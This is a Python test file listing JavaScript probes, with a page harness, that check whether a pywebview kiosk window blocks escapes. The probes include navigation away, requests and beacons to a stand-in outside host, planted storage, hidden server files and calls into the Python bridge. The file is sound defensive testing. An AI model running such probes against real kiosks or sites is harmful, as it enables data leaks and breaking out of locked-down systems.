"""What shoppers, children and pages may try in the kiosk's window: one line each, tried in a plain pywebview window too.

`js` runs in the page inside a real click, with `far` (another origin), `rest(ms)`, `say(words)` and `a` (makes an element) at
hand. `by` names what shows that the attack worked: what the page `said`, a `hit` on the other server, a new `window`, a `file` in
the home folder, an address `opened` by the system, a page that is `gone`, a window that `moved`, a page that came (`load:`),
something that a later page finds (`left:`).
`on` names the backends whose plain window is open to it: there the control must work. The kiosk must be closed to all, on both.
"""

from dataclasses import dataclass

BOTH, GTK, QT, NONE = ("gtk", "qt"), ("gtk",), ("qt",), ()


@dataclass(frozen=True)
class Attack:
    """One try."""

    way: str
    id: str
    js: str
    by: str = "said"
    on: tuple[str, ...] = BOTH
    hand: str = "click"
    """What the hand does: `click`, `key NAME`, `right`, `middle`, `wheel`, `drag`, `drop KIND`, `double`, or key+button."""
    seconds: float = 1.2
    """How long an effect may take to show."""
    debug: bool = False
    """Whether the control needs pywebview's debug mode, which a shop might switch on without knowing what it opens."""


def _link(**attributes: str) -> str:
    """Follow a link that is not in the page, so that no handler of the kiosk's layer sees it: the window must refuse it."""
    given = ", ".join(f"{name}: {value}" for name, value in attributes.items())
    return f"Object.assign(document.createElement('a'), {{ {given} }}).click()"


def _left(plant: str) -> str:
    """Leave something behind, and end the visit; where there are no visits, the page is only loaded again."""
    end = "fetch('/api/visit/end', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })"
    return f"{plant}; await {end}.then((a) => a.ok || location.reload(), () => location.reload())"


LISTEN = "addEventListener('{kind}', (e) => say('worked ' + e.type), {{ capture: true, once: true }}); await rest(1000)"
KEYDOWN = (
    "await new Promise((done) => {{ addEventListener('keydown', (e) => {{"
    " if ({test}) say('worked ' + e.key) }}, {{ capture: true }}); setTimeout(done, 900) }})"
)


def key(name: str, test: str, on: tuple[str, ...] = BOTH) -> Attack:
    """Make an attack of a key that a page must not even see: the control proves that it arrives there in a plain window."""
    return Attack("keys", f"key-{name.replace('+', '-')}", KEYDOWN.format(test=test), hand=f"key {name}", on=on)


ATTACKS = [
    # Another address in this window
    Attack("navigation", "nav-link", _link(href="far"), "hit"),
    Attack("navigation", "nav-assign", "location.href = far", "hit"),
    Attack("navigation", "nav-replace", "location.replace(far)", "hit"),
    Attack("navigation", "nav-refresh", "a('meta', { httpEquiv: 'refresh', content: '0;url=' + far })", "hit"),
    Attack("navigation", "nav-form", "a('form', { action: far, method: 'get' }).submit()", "hit"),
    Attack("navigation", "nav-post", "a('form', { action: far, method: 'post' }).submit()", "hit"),
    Attack("navigation", "nav-frame", "a('iframe', { src: far })", "hit"),
    Attack("navigation", "nav-object", "a('object', { data: far, type: 'text/html' })", "hit"),
    Attack("navigation", "nav-base", "a('base', { href: far }); " + _link(href="'?based'"), "hit"),
    Attack("navigation", "nav-user", "location.href = far.replace('//', '//' + location.host + '@')", "hit"),
    Attack("navigation", "nav-name", "location.href = location.href.replace('127.0.0.1', 'localhost')", "load:localhost"),
    # Leaks to another host
    Attack("leaks", "leak-fetch", "await fetch(far, { mode: 'no-cors' }).catch(() => {})", "hit"),
    Attack("leaks", "leak-picture", "new Image().src = far", "hit"),
    Attack("leaks", "leak-script", "a('script', { src: far })", "hit"),
    Attack("leaks", "leak-style", "a('link', { rel: 'stylesheet', href: far })", "hit"),
    Attack("leaks", "leak-beacon", "navigator.sendBeacon(far, 'x')", "hit"),
    Attack("leaks", "leak-socket", "new WebSocket(far.replace('http', 'ws'))", "hit"),
    Attack("leaks", "leak-events", "new EventSource(far)", "hit"),
    # New windows
    Attack("new windows", "win-open", "open(far)", "hit opened", QT),
    Attack("new windows", "win-own", "open(location.origin + '/en/index.html?second')", "load:second opened", QT),
    Attack("new windows", "win-blank", _link(href="far", target="'_blank'"), "hit opened"),
    Attack("new windows", "win-form", "a('form', { action: far, target: '_blank' }).submit()", "hit opened"),
    Attack(
        "new windows", "win-shift", "const l = big(far); await rest(900); l.remove()", "hit opened window", QT, hand="shift+1"
    ),
    Attack("new windows", "win-ctrl", "const l = big(far); await rest(900); l.remove()", "hit opened window", hand="ctrl+1"),
    Attack("new windows", "win-middle", "const l = big(far); await rest(900); l.remove()", "hit opened window", hand="middle"),
    # Dialogs
    Attack("dialogs", "dialog-alert", "alert('a')", "window"),
    Attack("dialogs", "dialog-confirm", "confirm('b')", "window gone"),
    Attack("dialogs", "dialog-prompt", "prompt('c')", "window gone"),
    Attack(
        "dialogs",
        "dialog-leave",
        "addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'stay' }); location.href = '/en/?left'",
        "window gone",
    ),
    Attack("dialogs", "dialog-colour", "a('input', { type: 'color' }).click()", "window", seconds=3, on=QT),
    # File choosers
    Attack("file choosers", "file-one", "a('input', { type: 'file' }).click()", "window"),
    Attack("file choosers", "file-many", "a('input', { type: 'file', multiple: true }).click()", "window"),
    Attack("file choosers", "file-folder", "a('input', { type: 'file', webkitdirectory: true }).click()", "window"),
    Attack("file choosers", "file-picker", "a('input', { type: 'file', accept: 'image/*' }).showPicker()", "window"),
    # Downloads
    Attack("downloads", "down-link", _link(href="'/media/data.zip'", download="'data.zip'"), "file window", on=GTK),
    Attack("downloads", "down-open", "location.href = '/media/data.zip'", "file window", seconds=2, on=QT),
    Attack(
        "downloads",
        "down-blob",
        _link(href="URL.createObjectURL(new Blob(['x'.repeat(9999)]))", download="'blob.bin'"),
        "file window",
        on=GTK,
    ),
    Attack("downloads", "down-data", _link(href="'data:application/zip,xxxx'", download="'data.bin'"), "file window", on=GTK),
    # Printing
    Attack("printing", "print-call", "print()", "window", GTK),
    Attack("printing", "print-command", "document.execCommand('print')", "window", GTK),
    Attack("printing", "print-frame", "const f = a('iframe', {}); f.contentWindow.print()", "window", GTK),
    # Devices and powers
    Attack("devices", "device-camera", "await ask(navigator.mediaDevices?.getUserMedia({ video: true }))", on=GTK),
    Attack("devices", "device-microphone", "await ask(navigator.mediaDevices?.getUserMedia({ audio: true }))", on=GTK),
    Attack("devices", "device-screen", "await ask(navigator.mediaDevices?.getDisplayMedia({ video: true }))", "said window"),
    Attack("devices", "device-fullscreen", "await ask(document.documentElement.requestFullscreen())", on=GTK),
    Attack(
        "devices",
        "device-pointer",
        "document.body.requestPointerLock(); await rest(400); document.pointerLockElement && say('worked')",
        on=GTK,
    ),
    Attack("devices", "device-read", "await ask(navigator.clipboard?.readText())", on=GTK, hand="clip"),
    Attack("devices", "device-graphics", "document.createElement('canvas').getContext('webgl') && say('worked')", on=GTK),
    # Drops
    Attack("drops", "drop-file", "await dropped('Files')", hand="drop file", seconds=7, on=QT),
    Attack("drops", "drop-text", "await dropped('text/plain')", hand="drop text", seconds=7, on=QT),
    Attack("drops", "drop-link", "await dropped('text/uri-list')", hand="drop link", seconds=7, on=QT),
    # Gestures
    Attack("gestures", "gesture-zoom", LISTEN.format(kind="wheel").replace("say(", "e.ctrlKey && say("), hand="wheel"),
    Attack(
        "gestures",
        "gesture-select",
        "const p = words(); await rest(1000); String(getSelection()) && say('worked'); p.remove()",
        hand="drag",
    ),
    Attack(
        "gestures",
        "gesture-double",
        "const p = words(); await rest(1000); String(getSelection()) && say('worked'); p.remove()",
        hand="double",
    ),
    Attack(
        "gestures",
        "gesture-paste",
        "const i = a('textarea', {}); cover(i); i.focus(); " + LISTEN.format(kind="paste") + "; i.remove()",
        hand="middle",
    ),
    # Keys
    key("F5", "e.key === 'F5'"),
    key("F11", "e.key === 'F11'"),
    key("F12", "e.key === 'F12'"),
    key("ctrl+p", "e.ctrlKey && e.key === 'p'"),
    key("ctrl+s", "e.ctrlKey && e.key === 's'"),
    key("ctrl+o", "e.ctrlKey && e.key === 'o'"),
    key("ctrl+n", "e.ctrlKey && e.key === 'n'"),
    key("ctrl+w", "e.ctrlKey && e.key === 'w'"),
    key("ctrl+r", "e.ctrlKey && e.key === 'r'"),
    key("ctrl+plus", "e.ctrlKey && e.key === '+'"),
    key("ctrl+shift+i", "e.ctrlKey && e.key.toLowerCase() === 'i'"),
    key("alt+Left", "e.altKey && e.key === 'ArrowLeft'"),
    key("ctrl+a", "e.ctrlKey && e.key === 'a'"),
    key("Menu", "e.key === 'ContextMenu'"),
    # Context menus
    Attack("context menus", "menu-page", "await rest(900)", "window", hand="right", debug=True),
    Attack(
        "context menus", "menu-link", "const l = big('/en/'); await rest(900); l.remove()", "window", hand="right", debug=True
    ),
    Attack(
        "context menus",
        "menu-field",
        "const i = a('textarea', {}); cover(i); await rest(900); i.remove()",
        "window",
        hand="right",
        debug=True,
    ),
    # Other schemes
    Attack("schemes", "scheme-blank", "location.href = 'about:blank'", "gone"),
    Attack("schemes", "scheme-script", _link(href="\"javascript:say('worked')\"") + "; await rest(500)"),
    Attack(
        "schemes",
        "scheme-blob",
        "location.href = URL.createObjectURL(new Blob(['<h1>mine</h1>'], { type: 'text/html' }))",
        "gone",
    ),
    Attack("schemes", "scheme-data", "a('iframe', { src: 'data:text/html,<img src=' + far + '>' })", "hit"),
    Attack("schemes", "scheme-mail", _link(href="'mailto:x@example.com'", target="'_blank'"), "opened"),
    Attack("schemes", "scheme-phone", _link(href="'tel:123456789'", target="'_blank'"), "opened"),
    Attack("schemes", "scheme-inline", "a('script', { textContent: \"say('worked')\" }); await rest(200)"),
    Attack("schemes", "scheme-eval", "try { new Function(\"say('worked')\")() } catch {} await rest(200)"),
    # Storage: what one visitor leaves for the next
    Attack("storage", "store-cookie", _left("document.cookie = 'planted=1; path=/; max-age=99999'"), "left:cookie", seconds=3),
    Attack("storage", "store-local", _left("localStorage.planted = '1'"), "left:local", QT, seconds=3),
    Attack("storage", "store-session", _left("sessionStorage.planted = '1'"), "left:session", seconds=3),
    Attack("storage", "store-name", _left("window.name = 'planted'"), "left:name", seconds=3),
    Attack(
        "storage",
        "store-database",
        _left(
            "await new Promise((done) => { setTimeout(done, 900);"
            " try { const o = indexedDB.open('planted'); o.onsuccess = done; o.onerror = done } catch {} })"
        ),
        "left:database",
        QT,  # WebKitGTK has no indexedDB in the private mode that a plain window has as well
        seconds=3,
    ),
    Attack(
        "storage",
        "store-cache",
        _left("await caches.open('planted').then((c) => c.put('/planted', new Response('x')))"),
        "left:cache",
        QT,
        seconds=3,
    ),
    # The server itself, asked by a page of its own
    Attack("server", "server-hidden", "(await fetch('/.secret')).ok && say('worked')"),
    Attack("server", "server-link", "(await fetch('/media/away/secret.txt')).ok && say('worked')"),
    Attack("server", "server-list", "(await (await fetch('/media/')).text()).includes('data.zip') && say('worked')"),
    Attack(
        "server",
        "server-name",
        "await fetch('http://localhost:' + location.port + '/en/', { mode: 'no-cors' }).then(() => say('worked'), () => {})",
    ),
    Attack(
        "server",
        "server-frame",
        "const f = a('iframe', { src: '/en/kettle/descale.html' }); await rest(900);"
        " f.contentDocument?.querySelector('article') && say('worked')",
        seconds=3,
    ),
    # The bridge into Python
    Attack("bridge", "bridge-object", "typeof window.pywebview === 'object' && say('worked')"),
    Attack(
        "bridge",
        "bridge-channel",
        "(window.webkit?.messageHandlers?.jsBridge || window.qt?.webChannelTransport) && say('worked')",
    ),
    Attack("bridge", "bridge-state", "window.pywebview.state.taken = 1; await rest(300); say('worked')"),
    Attack("bridge", "bridge-dialog", "window.pywebview._jsApiCallback('_pywebviewAlert', 'mine', 'x')", "window"),
]

PAGE = """
const rest = (ms) => new Promise((done) => setTimeout(done, ms))
const ask_ = (words) => fetch("/api/search?lang=en&q=" + encodeURIComponent(words)).then((a) => a.json())
// A navigation that was refused also stops questions that are on their way: each is asked until it arrives.
const say = async (words) => { while (!(await ask_(words).then(() => true, () => false))) await rest(50) }
window.say = (words) => say("said " + words)
window.rest = rest
window.a = (name, values) => {
  const one = Object.assign(document.createElement(name), values)
  document.body.append(one)
  return one
}
window.cover = (one) => { one.className = "cover"; return one }
window.big = (href) => cover(a("a", { href, textContent: "link" }))
window.words = () => cover(a("p", { textContent: "words to take ".repeat(400) }))
window.ask = async (promise) => {
  if (!promise) return say("said missing")
  // Without a device nobody can say whether it would have been given.
  const refused = ["NotAllowedError", "SecurityError", "TypeError", "NotFoundError"]
  const found = await Promise.race([Promise.resolve(promise).then(() => "worked", (e) => refused.includes(e.name) || e.code === 1
    ? "refused " + (e.name || e.code) : "worked as far as " + (e.name || e.code)), rest(2500).then(() => "silent")])
  return say("said " + found)
}
window.dropped = async (kind) => {
  for (const type of ["dragenter", "dragover"]) addEventListener(type, (e) => e.preventDefault(), { capture: true })
  addEventListener("drop", (e) => {
    e.preventDefault()
    if ([...e.dataTransfer.types].includes(kind)) window.say("worked")
  }, { capture: true, once: true })
  await rest(7000)
}
const finds = {
  cookie: () => document.cookie.includes("planted"),
  local: () => localStorage.planted,
  session: () => sessionStorage.planted,
  name: () => window.name === "planted",
  database: async () => (await indexedDB.databases()).some(({ name }) => name === "planted"),
  cache: () => caches.has("planted"),
}
for (const [kind, find] of Object.entries(finds)) {
  // Some engines never answer where they keep nothing.
  if (await Promise.race([Promise.resolve().then(find).catch(() => false), rest(1500)])) await say("left " + kind)
}
const ONCE = { capture: true, once: true }
let last = null
try { last = sessionStorage.getItem("tried") } catch { /* a control window may have none */ }
await say("load " + location.href)
for (;;) {
  const { did_you_mean: next } = await ask_("poll").catch(() => ({}))
  if (next && next !== last) {
    last = next
    try { sessionStorage.setItem("tried", next) } catch { /* see above */ }
    const { attack } = await import("/assets/attacks/" + next.split("~")[0] + ".js")
    const far = new URL(import.meta.url).searchParams.get("far") + "/" + next
    const began = new Promise((done) => {
      setTimeout(done, 1500)
    })
    const early = /^(key|drop|gesture|menu|win-shift|win-ctrl|win-middle)/.test(next)
    const click = early || new Promise((done) => addEventListener("click", () => done(run(attack, far)), ONCE))
    if (early) { const going = run(attack, far); await say("armed " + next); await going }
    else { await say("armed " + next); await Promise.race([click, began.then(() => rest(3000))]) }
    await say("result " + next)
  }
  await rest(60)
}
async function run(attack, far) {
  try { await attack(far) } catch (error) { await say("threw " + error.name) }
}
"""
